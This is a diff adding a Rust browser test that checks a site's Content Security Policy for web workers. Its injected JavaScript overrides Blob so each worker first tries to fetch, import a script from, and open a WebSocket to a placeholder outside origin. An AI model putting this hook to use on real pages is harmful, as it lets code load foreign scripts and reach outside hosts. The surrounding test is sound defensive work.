@@ -123,6 +123,35 @@ const WAYS_OUT: &str = "
       done(out);
     })();";
 
+/// Has every worker of the page's, before its own first line, try to reach a stranger, and then tell the site that it did.
+const WORKER_OUT: &str = "
+    const Plain = globalThis.Blob;
+    globalThis.Blob = class extends Plain {
+      constructor(parts, ...more) {
+        const out = `fetch('STRANGER/fetch', { mode: 'no-cors' }).catch(() => {});
+          try { importScripts('STRANGER/script'); } catch {}
+          try { new WebSocket('STRANGER/socket'.replace('http', 'ws')); } catch {}
+          fetch('SITE/tried').catch(() => {});`;
+        super([out, ...parts], ...more);
+      }
+    };";
+
+/// Plain files come without headers: what holds the worker is the page's own policy.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_policy_holds_the_worker_of_plain_files_too() {
+    let open = [(header::ACCESS_CONTROL_ALLOW_ORIGIN, "*")];
+    let stranger = Site::of(Router::new().fallback(any(move || async move { (open, "") })), "").await;
+    let session = Session::with(Setting { serving: Serving::Files(""), ..DESK }, "/about").await;
+    let script = WORKER_OUT.replace("STRANGER", &stranger.origin()).replace("SITE", &session.site.origin());
+    session.cdp("Page.addScriptToEvaluateOnNewDocument", json!({ "source": script })).await;
+    session.goto("/p/jigsaw/5").await;
+    let shown = session.attribute("[data-stimulus]", "data-stimulus").await;
+    assert_eq!(shown, item(TaskName::Jigsaw, 5).stimulus, "the worker works");
+    assert!(session.site.asked().iter().any(|a| a.path == "/tried"), "and it did try");
+    assert_eq!(stranger.asked(), [], "a stranger heard of it");
+    session.close_forgiving(&["status of 404", "Content Security Policy", "WebSocket"]).await;
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn the_policy_lets_nothing_in_or_out() {
     // A stranger who would take anything from anybody.
